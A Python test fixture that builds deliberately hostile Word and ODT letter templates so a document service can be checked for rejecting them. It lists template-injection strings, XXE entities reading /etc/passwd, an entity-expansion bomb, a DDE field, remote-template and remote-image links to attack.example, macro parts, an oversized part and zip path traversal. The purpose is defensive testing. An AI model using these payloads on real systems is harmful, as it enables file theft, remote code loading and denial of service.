"""Templates as a town could bring them: ours changed in one place, and those of an attacker."""

import zipfile
from collections.abc import Callable
from io import BytesIO
from typing import Final

from casework.letters.kinds import LetterFormat, LetterKind
from casework.letters.pressing import shipped

KIND: Final = LetterKind.INFORMATION_PERSON
DOCX, ODT = LetterFormat.DOCX, LetterFormat.ODT
_BODY: Final = {DOCX: "word/document.xml", ODT: "content.xml"}
_PARAGRAPH: Final = {
    DOCX: "<w:p><w:r><w:t>{}</w:t></w:r></w:p><w:sectPr",
    ODT: "<text:p>{}</text:p></office:text>",
}
_END: Final = {DOCX: "<w:sectPr", ODT: "</office:text>"}
_BELL: Final = b"\x07" * (9 * 1024 * 1024)


def changed(
    format_: LetterFormat, change: Callable[[dict[str, bytes]], None], kind: LetterKind = KIND
) -> bytes:
    """Return the template that comes with the service, its parts changed."""
    with zipfile.ZipFile(BytesIO(shipped(kind, format_))) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    change(parts)
    made = BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, part in parts.items():
            archive.writestr(name, part)
    return made.getvalue()


def with_words(format_: LetterFormat, words: str) -> bytes:
    """Return a template with a paragraph more, of these words or this markup."""

    def add(parts: dict[str, bytes]) -> None:
        body, end = _BODY[format_], _END[format_]
        said = _PARAGRAPH[format_].format(words)
        parts[body] = parts[body].decode().replace(end, said, 1).encode()

    return changed(format_, add)


def with_part(format_: LetterFormat, name: str, part: bytes = b"x") -> bytes:
    """Return a template with a part more."""
    return changed(format_, lambda parts: parts.update({name: part}))


def with_prolog(format_: LetterFormat, prolog: bytes) -> bytes:
    """Return a template whose text begins with a document type of one's own."""

    def add(parts: dict[str, bytes]) -> None:
        _, _, rest = parts[_BODY[format_]].partition(b"?>")
        parts[_BODY[format_]] = b"<?xml version='1.0'?>" + prolog + rest

    return changed(format_, add)


_ENTITY: Final = b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
_LAUGHS: Final = b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
_OUTSIDE: Final = (
    b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/attachedTemplate" Target="https://attack.example/a.dotm"'
    b' TargetMode="External"/></Relationships>'
)


def _outside(parts: dict[str, bytes]) -> None:
    name = "word/_rels/document.xml.rels"
    parts[name] = parts[name].replace(b"</Relationships>", _OUTSIDE)


def _macro_type(parts: dict[str, bytes]) -> None:
    name, was = "[Content_Types].xml", b"wordprocessingml.document.main+xml"
    parts[name] = parts[name].replace(was, b"wordprocessingml.document.macroEnabled.main+xml")


_DDE: Final = "</w:t></w:r><w:r><w:instrText>DDEAUTO c:\\\\x</w:instrText></w:r><w:r><w:t>"
_PICTURE: Final = '<draw:image xmlns:draw="d" xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="https://attack.example/x.png"/>'
_EVENT: Final = '<script:event-listener xmlns:script="s" script:event-name="dom:load"/>'
_SECTION: Final = (
    '<text:section-source xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="/etc/passwd"/>'
)

ATTACKS: Final = {
    "class": (DOCX, with_words(DOCX, "{{ ''.__class__ }}")),
    "class of a field": (DOCX, with_words(DOCX, "{{ destinataire.__class__ }}")),
    "call": (DOCX, with_words(DOCX, "{{ destinataire.upper() }}")),
    "globals": (DOCX, with_words(DOCX, "{{ cycler.__init__.__globals__ }}")),
    "item": (DOCX, with_words(DOCX, "{{ destinataire['x'] }}")),
    "filter": (DOCX, with_words(DOCX, "{{ destinataire|attr('x') }}")),
    "include": (DOCX, with_words(DOCX, "{% include '/etc/passwd' %}")),
    "import": (DOCX, with_words(DOCX, "{% import 'x' as y %}")),
    "loop": (DOCX, with_words(DOCX, "{% for x in 'y' * 99999999 %}{{ x }}{% endfor %}")),
    "product": (DOCX, with_words(DOCX, "{{ 'y' * 999999999 }}")),
    "paragraph loop": (DOCX, with_words(DOCX, "{%p for x in y %}")),
    "raw": (DOCX, with_words(DOCX, "{% raw %}")),
    "comment": (DOCX, with_words(DOCX, "{# destinataire #}")),
    "unclosed": (DOCX, with_words(DOCX, "{{ destinataire")),
    "in properties": (DOCX, changed(DOCX, lambda parts: parts.update(
        {"docProps/core.xml": parts["docProps/core.xml"].replace(
            b"<dc:title>", b"<dc:title>{{ ''.__class__ }}")}))),
    "field of Word": (DOCX, with_words(DOCX, _DDE)),
    "macro": (DOCX, with_part(DOCX, "word/vbaProject.bin")),
    "macro by its type": (DOCX, changed(DOCX, _macro_type)),
    "embedded": (DOCX, with_part(DOCX, "word/embeddings/oleObject1.bin")),
    "external": (DOCX, changed(DOCX, _outside)),
    "entities": (DOCX, with_prolog(DOCX, _ENTITY)),
    "laughs": (DOCX, with_prolog(DOCX, _LAUGHS)),
    "bomb": (DOCX, with_part(DOCX, "word/media/image1.png", _BELL)),
    "path": (DOCX, with_part(DOCX, "../../etc/cron.d/x")),
    "not a document": (DOCX, b"PK\x03\x04 nothing"),
    "other format": (DOCX, shipped(KIND, ODT)),
    "instruction of odt": (ODT, with_words(ODT, "{% for x in y %}")),
    "call in odt": (ODT, with_words(ODT, "{{ destinataire.upper() }}")),
    "macro of odt": (ODT, with_part(ODT, "Basic/Standard/script-lb.xml")),
    "script of odt": (ODT, with_part(ODT, "Scripts/python/x.py")),
    "event": (ODT, with_words(ODT, _EVENT)),
    "external picture": (ODT, with_words(ODT, _PICTURE)),
    "section from a file": (ODT, with_words(ODT, _SECTION)),
    "object": (ODT, with_part(ODT, "Object 1/content.xml")),
    "entities of odt": (ODT, with_prolog(ODT, _ENTITY)),
    "bomb of odt": (ODT, with_part(ODT, "Pictures/a.png", _BELL)),
    "path in odt": (ODT, with_part(ODT, "../x")),
    "other format for odt": (ODT, shipped(KIND, DOCX)),
}  # fmt: skip
"""What must never be taken for a template, by what it tries."""
